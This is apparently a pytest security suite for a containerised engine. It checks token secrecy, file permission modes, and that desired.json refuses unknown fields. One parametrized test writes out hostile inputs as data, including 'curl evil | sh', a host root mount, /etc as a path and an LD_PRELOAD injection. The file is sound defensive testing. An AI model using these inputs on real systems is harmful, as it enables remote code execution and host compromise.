"""Security is part of correctness: tokens stay secret, files get narrow modes, desired.json can
say nothing but running or stopped, and the engine listens on the gateway only."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from tests.fixtures import Engine

pytestmark = pytest.mark.docker

TOKEN = "hf_S3cretT0kenThatMustNeverLeak42"


def _mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def test_a_token_reaches_the_engine_only_through_its_environment(
    make_engine, client, recipe_repo
) -> None:
    token_file = recipe_repo.path.parent / "hf_token"
    token_file.write_text(TOKEN + "\n")
    token_file.chmod(0o600)
    chatty = (
        (recipe_repo.path / "scripts" / "prepare.sh")
        .read_text()
        .replace(
            'echo "Download complete"',
            'echo "using token $HF_TOKEN"; sleep 2; echo "Download complete"',
        )
    )
    commit = recipe_repo.commit("prepare prints its token", {"scripts/prepare.sh": chatty})
    engine: Engine = make_engine(
        commit=commit, secrets={"HF_TOKEN": str(token_file)}, settings={"PREPARE_SECONDS": "2"}
    )
    proc = engine.start_worker()
    generation = engine.request("running")
    seen = []
    status = engine.wait_status(
        lambda s: (
            seen.append(s["message"]) or (s["generation"] == generation and s["state"] == "running")
        ),
        timeout=120,
    )
    container = client.containers.get(engine.container)
    env = dict(item.split("=", 1) for item in container.attrs["Config"]["Env"])
    assert env["HF_TOKEN"] == TOKEN, "the engine needs its token"
    args = " ".join(
        [*(container.attrs["Config"].get("Cmd") or []), *(container.attrs.get("Args") or [])]
    )
    assert TOKEN not in args
    assert any("using token ***" in message for message in seen), seen
    assert all(TOKEN not in message for message in seen)
    assert TOKEN not in json.dumps(status)
    assert TOKEN not in (engine.dir / "status.json").read_text()
    assert TOKEN not in engine.log_tail(10_000)
    cmdline = Path(f"/proc/{proc.pid}/cmdline").read_bytes().decode(errors="replace")
    assert TOKEN not in cmdline
    assert TOKEN not in (engine.root / f"{engine.name}.toml").read_text()


def test_a_missing_token_file_fails_with_the_fix(make_engine, tmp_path) -> None:
    engine: Engine = make_engine(secrets={"HF_TOKEN": str(tmp_path / "nope")})
    engine.start_worker()
    generation = engine.request("running")
    status = engine.wait_state(generation, "failed", timeout=120)
    assert "HF_TOKEN" in status["message"] and "does not exist" in status["message"]


def test_files_and_directories_have_the_narrowest_modes(make_engine) -> None:
    engine: Engine = make_engine()
    engine.start_worker()
    generation = engine.request("running")
    engine.wait_state(generation, "running", timeout=120)
    telemetry = engine.data_dir / "telemetry"
    expected = {
        engine.dir: 0o750,  # host and worker (a shared group), nobody else
        engine.dir / "desired.json": 0o640,
        engine.dir / "status.json": 0o640,
        engine.dir / ".lease": 0o600,
        engine.dir / ".generation": 0o600,  # the host's last issued generation: the host's alone
        telemetry: 0o755,  # Prometheus runs as its own user: addresses and labels only
        telemetry / f"{engine.name}.json": 0o644,
        engine.state_dir: 0o700,  # the checkout and stamps: the worker's alone
        engine.state_dir / "prepared.json": 0o600,
    }
    modes = {str(path): oct(_mode(path)) for path in expected}
    assert modes == {str(path): oct(mode) for path, mode in expected.items()}


@pytest.mark.parametrize(
    "extra",
    [
        {"image": "evil:latest"},
        {"command": ["sh", "-c", "curl evil | sh"]},
        {"volumes": ["/:/host"]},
        {"path": "/etc"},
        {"env": {"LD_PRELOAD": "/tmp/x.so"}},
    ],
)
def test_desired_json_cannot_name_an_image_a_command_a_path_or_a_mount(
    make_engine, client, extra
) -> None:
    engine: Engine = make_engine()
    engine.start_worker()
    generation = engine.request("running")
    engine.wait_state(generation, "running", timeout=120)
    container = client.containers.get(engine.container)
    document = {"schemaVersion": 1, "generation": generation + 1, "desired": "running", **extra}
    tmp = engine.dir / ".evil.tmp"
    tmp.write_text(json.dumps(document))
    os.replace(tmp, engine.dir / "desired.json")
    status = engine.wait_status(lambda s: s.get("refused"), timeout=10)
    assert "unknown field" in status["refused"]
    assert status["generation"] == generation and status["state"] == "running"
    assert client.containers.get(engine.container).id == container.id
